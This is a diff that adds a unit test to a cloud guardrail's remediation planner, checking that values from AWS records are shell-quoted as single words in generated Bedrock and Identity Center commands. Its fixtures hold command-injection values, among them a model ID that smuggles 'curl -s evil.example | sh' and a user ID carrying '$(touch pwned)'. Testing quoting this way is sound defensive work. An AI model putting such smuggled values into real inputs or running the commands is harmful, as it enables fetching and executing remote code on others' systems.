@@ -285,6 +285,33 @@ describe("planRemediation per principal kind", () => {
     expect(plan.at(-1)).toMatchObject({ kind: "manual", disposition: "manual" });
   });
 
+  it("a command in a manual step takes each value of the record as one shell word, and names the region", () => {
+    const g = guardrailWith({ remediation: { mode: "enforce", regions: ["us-west-2"] } });
+    const record = fixture(IAM_USER_RECORD);
+    const f = findingOf(g, {
+      ...record,
+      requestParameters: { modelId: "anthropic.claude-v2; curl -s evil.example | sh" },
+    });
+    const region = f.cloud.region;
+    expect(planRemediation(f, g, ctx).at(-1)!.steps).toEqual([
+      `In account ${f.cloud.account.id}, region ${region}: aws bedrock delete-foundation-model-agreement ` +
+        `--region ${region} --model-id 'anthropic.claude-v2; curl -s evil.example | sh'`,
+    ]);
+    const identityCenter = findingOf(
+      g,
+      withIdentity({
+        type: "IdentityCenterUser",
+        accountId: "494659789341",
+        onBehalfOf: {
+          userId: "u-1$(touch pwned)'",
+          identityStoreArn: "arn:aws:identitystore::494659789341:identitystore/d-9067642ac7",
+        },
+      }),
+    );
+    const steps = planRemediation(identityCenter, g, ctx)[0].steps!.join("\n");
+    expect(steps).toContain(`--user-id 'u-1$(touch pwned)'\\'''.`);
+  });
+
   it("the same finding planned twice gets the same action ids", () => {
     const f = findingOf(enforce, fixture(IAM_USER_RECORD));
     const a = planRemediation(f, enforce, ctx).map((x) => x.actionId);
